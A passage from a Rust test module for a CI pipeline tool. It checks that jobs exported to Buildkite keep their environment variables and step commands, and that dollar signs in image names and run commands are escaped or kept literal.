            // What the step's script sees: the variables of the step and of the pipeline, and
            // those its first lines export.
            let mut seen: HashMap<String, String> = HashMap::new();
            for (name, value) in pipeline.env.iter().chain(&step.env) {
                seen.insert(name.clone(), interpolation::evaluate(value, &env).unwrap());
            }
            for line in lines.iter().filter(|l| l.starts_with("export ")) {
                let name = &line["export ".len()..line.find('=').unwrap()];
                seen.insert(name.into(), sh(&format!("{line}; printf %s \"${name}\"")));
            }
            let job = plan
                .jobs
                .iter()
                .find(|j| seen.get("CDL_JOB") == Some(&j.id))
                .unwrap();
            for (name, value) in &job.env {
                assert_eq!(seen.get(name), Some(value), "{} {name}", job.id);
                checked += 1;
            }
            let commands: Vec<&String> = lines
                .iter()
                .filter(|l| l.starts_with("sh -e -c "))
                .collect();
            assert_eq!(commands.len(), job.steps.len());
            for (line, text) in commands.iter().zip(&job.steps) {
                let printed = sh(&format!("printf %s {}", &line["sh -e -c ".len()..]));
                assert_eq!(&printed, text);
                checked += 1;
            }
        }
        assert!(checked > 20, "{checked}");
    }

    /// Issue 10: an `image` with `$` is spelled for the upload, not passed raw.
    #[test]
    fn buildkite_image_with_a_dollar_is_literal() {
        let plan = plan_of(
            r#"pipeline p { stage s { job j { run = "true"; image = "$REGISTRY/app:${TAG}" } } }"#,
        );
        let strings = uploaded(&plan);
        assert!(
            strings.contains(&"$REGISTRY/app:${TAG}".to_string()),
            "{strings:?}"
        );
    }

    #[test]
    fn every_dollar_is_escaped() {
        let plan =
            plan_of("pipeline p { stage s { job j { run = \"echo \\\"$HOME\\\" ${X}\" } } }");
        let content = &Buildkite.export(&plan).files[0].content;
        assert!(content.contains("$$HOME"), "{content}");
        assert!(content.contains("$${X}"), "{content}");
    }
}
